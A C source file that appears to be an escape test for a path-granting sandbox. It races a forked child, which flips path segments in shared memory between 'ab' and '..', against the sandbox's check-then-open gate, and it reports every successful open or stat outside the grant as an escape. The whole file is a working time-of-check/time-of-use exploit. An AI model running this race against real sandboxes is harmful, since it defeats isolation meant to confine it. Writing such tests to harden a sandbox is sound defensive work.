/* The session gates read the path, check its names (none `..`), then the
 * kernel reads it again in openat2(the grant's copy, the rest,
 * RESOLVE_NO_SYMLINKS | NO_XDEV). The gates only ask that no thread share
 * the process's memory; here the path lies in a MAP_SHARED page a fork
 * child (another process, no thread of ours) flips between "ab" and ".."
 * while the parent opens and stats RO/ab/NAME for each name given: a `..`
 * the kernel sees after the gate's look would walk up from the grant's copy
 * (a grant whose copy is not a mount root: up into its parent's files).
 * argv: secret ro rw NAME... (NAMEs beside ro on the host, outside every
 * grant). Any open or stat that succeeds is an ESCAPE. */
#include "attack.h"
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
int main(int argc, char **argv) {
    ARGS
    char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) { perror("mmap"); return 1; }
    volatile char *flip = 0;
    pid_t child = -1;
    long opens = 0, stats = 0, escapes = 0, other = 0;
    for (int a = 4; a < argc; a++) {
        /* RO/ab/NAME, also RO/ab/ab/ab/NAME (deeper than the grant's copy) */
        for (int depth = 1; depth <= 3; depth++) {
            memset(page, 0, 4096);
            strcpy(page, ro);
            size_t at[3];
            for (int d = 0; d < depth; d++) { strcat(page, "/"); at[d] = strlen(page); strcat(page, "ab"); }
            strcat(page, "/");
            strcat(page, argv[a]);
            child = fork();
            if (child == 0) {
                for (;;) {
                    for (int d = 0; d < depth; d++) { page[at[d]] = '.'; page[at[d] + 1] = '.'; }
                    for (int d = 0; d < depth; d++) { page[at[d]] = 'a'; page[at[d] + 1] = 'b'; }
                }
            }
            struct timespec t0, t;
            clock_gettime(CLOCK_MONOTONIC, &t0);
            for (long i = 0;; i++) {
                long fd = (i & 1) ? lc(openat(AT_FDCWD, page, O_RDONLY | O_CLOEXEC)) : lc(open(page, O_RDONLY));
                opens++;
                if (fd >= 0) { escapes++; printf("ESCAPE: opened %s (depth %d)\n", argv[a], depth); show("the file", fd); }
                else if (fd != -ENOENT && fd != -EXDEV && fd != -ELOOP) other++;
                struct stat st;
                long r = lc(stat(page, &st));
                stats++;
                if (r == 0) { escapes++; printf("ESCAPE: stat %s (depth %d) size %ld\n", argv[a], depth, (long)st.st_size); }
                if ((i & 255) == 0) {
                    clock_gettime(CLOCK_MONOTONIC, &t);
                    if ((t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) > 40000000L) break;
                }
            }
            kill(child, SIGKILL);
            waitpid(child, 0, 0);
        }
    }
    printf("shared_flip: %ld opens, %ld stats, %ld escapes, %ld other errors\n", opens, stats, escapes, other);
    printf("shared_flip: done\n");
    return 0;
}
